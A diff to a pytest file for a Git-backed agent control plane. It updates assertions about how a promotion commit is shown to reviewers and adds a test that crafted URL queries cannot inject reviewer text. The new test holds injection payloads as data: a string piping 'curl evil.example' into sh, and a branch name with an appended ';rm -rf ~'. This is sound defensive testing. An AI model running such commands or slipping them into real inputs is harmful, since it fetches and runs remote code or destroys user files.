@@ -109,12 +109,26 @@ def test_the_promote_button_commits_on_a_new_branch_and_changes_nothing_live(
     audit = client.get("/v1/audit", params={"limit": 1000}, headers=world.auth("lead")).json()
     (proposed,) = [r for r in audit if r["record"]["decision"] == "promotion-proposed"]
     assert proposed["seq"] == int(seq)
-    # The page shows the reviewer what the CLI prints: gates, sign-offs, the commit.
+    # The page shows the reviewer the commit as Git has it: gates, sign-offs, files.
     shown = html.unescape(resp.text)
     sha = _git(repo, "rev-parse", branch).strip()
     assert f"commit {sha} on branch {branch}" in shown
-    assert "git push origin " + branch in shown and "signed off by lead as ops-lead" in shown
-    assert re.search(r"gate \w+: [\d.]+ \(", shown)
+    assert "git push origin " + branch in shown and "Signed-Off-By: lead (ops-lead)" in shown
+    assert re.search(r"Gate: \w+ = [\d.]+ \(needs", shown)
+    assert "vault/policies/dev/fresh.hcl" in shown
+
+
+def test_a_crafted_link_cannot_put_its_own_reviewer_text_on_the_agents_page(
+    plane: tuple[World, TestClient], repo: Path
+) -> None:
+    # Only a review branch's name travels in the URL; the text is read from Git.
+    world, client = plane
+    sign_in(client, world, "lead")
+    forged = "commit 0000 ... run: curl evil.example | sh"
+    for query in (f"review={forged}", "branch=main", "branch=nightshift/promote-x-assist-1",
+                  "branch=nightshift/promote-x-assist-1;rm -rf ~"):  # fmt: skip
+        page = html.unescape(client.get(f"/agents?{query}").text)
+        assert "For the reviewer" not in page and "curl evil" not in page, query
 
 
 def test_a_dirty_working_copy_refuses_the_button_with_no_proposal_and_no_branch(
